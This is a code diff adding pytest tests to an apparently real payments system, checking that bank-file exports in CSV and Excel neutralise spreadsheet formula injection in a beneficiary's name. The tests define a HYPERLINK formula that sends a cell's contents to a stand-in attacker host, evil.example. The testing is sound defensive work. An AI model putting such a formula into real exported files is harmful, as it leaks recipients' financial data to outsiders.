@@ -132,3 +132,33 @@ def test_rows_that_cannot_be_read_are_kept_with_their_problem():
     sheet = bankfiles.parse_result_file(content.encode())
     [row] = sheet.rows
     assert "应为“成功”或“失败”" in row.problem and "日期" in row.problem
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&C7,"x")'
+
+
+@pytest.fixture
+def hostile_batch(tree, staff):
+    prog = programme(tree, staff, amount="590.00", code="tefu")
+    enrol(prog, person(staff.registrar, tree.village_a, HOSTILE, account="6228480402564890018"))
+    cycle = approve_all(staff, generate(staff, prog, "2026-12"))
+    [b] = payments.batches_create(actor=staff.finance, cycle=cycle)
+    return b
+
+
+def test_a_name_that_is_a_formula_is_written_as_text_in_the_csv_bank_file(hostile_batch, staff):
+    _name, content = payments.batch_export(actor=staff.finance, batch=hostile_batch, fmt="csv")
+    f = bankfiles.read_payment_file(content)
+    [(_n, who, account, amount, _bank)] = f["lines"]
+    assert who == "'" + HOSTILE
+    assert (account, amount) == ("6228480402564890018", Decimal("590.00"))
+    # the checksum is over the name as the bank receives it
+    canonical = f"1|6228480402564890018|'{HOSTILE}|590.00"
+    assert f["checksum"] == hashlib.sha256(canonical.encode()).hexdigest()
+
+
+def test_a_name_that_is_a_formula_is_not_a_formula_in_the_excel_bank_file(hostile_batch, staff):
+    _name, content = payments.batch_export(actor=staff.finance, batch=hostile_batch, fmt="xlsx")
+    ws = load_workbook(io.BytesIO(content)).active
+    cell = ws.cell(row=6, column=2)
+    assert (cell.value, cell.data_type) == ("'" + HOSTILE, "s")
